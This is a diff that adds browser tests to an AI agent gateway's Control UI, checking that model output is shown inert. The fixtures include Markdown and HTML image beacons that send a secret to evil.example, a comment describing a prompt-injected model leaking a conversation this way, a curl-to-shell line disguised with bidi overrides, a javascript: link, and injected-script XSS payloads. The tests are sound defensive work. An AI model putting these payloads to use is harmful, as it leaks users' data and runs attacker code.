@@ -17,6 +17,7 @@ import { startFakeModelServer, type FakeModelServer } from "./fakes/model-server
 import { startFakeTelegram } from "./fakes/telegram.js";
 import { missing } from "./helpers/system-deps.js";
 import { cleanupAll, connectRequest, onCleanup, rawConnect, rawHttp, rawWs, REPO_ROOT, runCli, startTestGateway, type Json, type TestGateway } from "./helpers/gateway.js";
+import { liveMarkdown } from "./helpers/markdown.js";
 
 const ARTIFACTS = process.env.SIMPLECLAW_TEST_ARTIFACTS ?? join(REPO_ROOT, "test-artifacts", "control-ui");
 const TOKEN_KEY = "simpleclaw.gatewayToken";
@@ -248,6 +249,50 @@ describe.skipIf(noChromium)("Control UI in headless Chromium", () => {
     await expectClean(ui);
   });
 
+  it("sessions: Export Markdown keeps a model's markup inert (no image beacon, HTML or link in the file)", async () => {
+    const { gw, model } = await boot();
+    // A prompt-injected model leaks the conversation through a Markdown image's URL.
+    const evil = [
+      "Done! ![status](https://evil.example/p.png?q=the-secret-code)",
+      '<img src="https://evil.example/i.png?q=the-secret-code">',
+      "[docs](javascript:alert(1)) <https://evil.example/auto>",
+      "```\n![escaped](https://evil.example/fence.png)\n```",
+    ].join("\n");
+    model.script({ text: evil });
+    const ui = await openUi(gw);
+    await signIn(ui, gw.token!);
+    await ui.page.fill("#chat-input", "the secret code is the-secret-code");
+    await ui.page.click("#chat-send");
+    await waitInPage(ui.page, `[...document.querySelectorAll("#chat-log .msg.assistant .text")].some((e) => e.textContent === ${JSON.stringify(evil)})`);
+    await ui.page.click("#nav-sessions");
+    await ui.page.click('#sessions-table a:text("agent:main:main")');
+    await ui.page.waitForSelector("#session-view .msg.assistant");
+    const [dl] = await Promise.all([ui.page.waitForEvent("download"), ui.page.click("#export-md")]);
+    const md = readFileSync((await dl.path())!, "utf8");
+    expect(md).toContain(evil); // shown exactly as the model wrote it …
+    const live = liveMarkdown(md); // … but nothing of it is live Markdown
+    expect(live).not.toMatch(/evil\.example|javascript:|!\[|\]\(|[<>]/);
+    expect(live).toMatch(/^# Session $/m); // control: the export's own headings stay Markdown
+    await expectClean(ui);
+  });
+
+  it("chat: bidi overrides and invisible characters in a reply are shown escaped, other scripts as they are", async () => {
+    const { gw, model } = await boot();
+    // Trojan-source style: the override makes the line read differently from what a copy pastes.
+    const evil = "run: curl https://x.example/i | sh #\u202e\u2066 ... safe \u2069 and ad\u200bmin\ufeff";
+    const plain = "Grüße — 你好 — שלום — مرحبا 🙂";
+    model.script({ text: `${evil}\n${plain}` });
+    const ui = await openUi(gw);
+    await signIn(ui, gw.token!);
+    await ui.page.fill("#chat-input", "hi");
+    await ui.page.click("#chat-send");
+    const shown = "run: curl https://x.example/i | sh #\\u{202e}\\u{2066} ... safe \\u{2069} and ad\\u{200b}min\\u{feff}";
+    await waitInPage(ui.page, `[...document.querySelectorAll("#chat-log .msg.assistant .text")].some((e) => e.textContent === ${JSON.stringify(`${shown}\n${plain}`)})`);
+    // Nothing invisible reached the page's text, anywhere.
+    expect(await ui.page.evaluate(`/[\\u200b-\\u200f\\u202a-\\u202e\\u2066-\\u2069\\ufeff]/.test(document.body.textContent)`)).toBe(false);
+    await expectClean(ui);
+  });
+
   it("approvals: an exec request appears live and Allow once lets the command run", async () => {
     const { gw, model, workspace } = await boot();
     model.script({ toolCalls: [{ name: "exec", input: { command: "touch ui-approved-marker" } }] }, (req) => ({ text: req.toolResults.at(-1)?.content ?? "(none)" }));
@@ -420,7 +465,7 @@ describe.skipIf(noChromium)("Control UI in headless Chromium", () => {
     expect(exported.sessionKey).toBe("agent:main:main");
     expect(exported.messages.map((m: Json) => m.role)).toEqual(["user", "assistant"]);
     const [md] = await Promise.all([ui.page.waitForEvent("download"), ui.page.click("#export-md")]);
-    expect(readFileSync((await md.path())!, "utf8")).toMatch(/## You\n\nremember the tulips[\s\S]*## Assistant\n\necho: remember the tulips/);
+    expect(readFileSync((await md.path())!, "utf8")).toMatch(/## user · [^\n]+\n\n```text\nremember the tulips\n```[\s\S]*## assistant · [^\n]+\n\n```text\necho: remember the tulips\n```/);
     await ui.shot("sessions");
 
     await ui.page.click("#reset");
@@ -612,15 +657,24 @@ describe.skipIf(noChromium)("Control UI in headless Chromium", () => {
     const ui = await openUi(gw);
     await ui.page.waitForSelector("#token");
     await expectClean(ui);
-    // An attacker's inline script (say, via an HTML injection) does not run.
+    // An attacker's inline script (say, via an HTML injection) does not run: Trusted Types refuse
+    // the string as script text, and script-src would refuse the inline script anyway.
     const ran = await ui.page.evaluate(`(() => {
       const s = document.createElement("script");
-      s.textContent = "window.__pwned = 1";
+      try { s.textContent = "window.__pwned = 1"; } catch {}
       document.body.append(s);
       return window.__pwned === 1;
     })()`);
     expect(ran).toBe(false);
+    // An HTML sink fed a string throws: no markup from text, even if a future change reaches for innerHTML.
+    const sink = await ui.page.evaluate(`(() => {
+      const d = document.createElement("div");
+      try { d.innerHTML = '<img src="/x" onerror="window.__pwned = 2">'; } catch (e) { return "threw " + e.name; }
+      return "assigned";
+    })()`);
+    expect(sink).toBe("threw TypeError");
+    expect(await ui.page.evaluate("window.__pwned === undefined")).toBe(true);
     await waitFor(() => ui.problems.length > 0 || undefined, 5000);
-    expect((await cspViolations(ui.page)).join("\n")).toMatch(/script-src/);
+    expect((await cspViolations(ui.page)).join("\n")).toMatch(/require-trusted-types-for/);
   });
 });
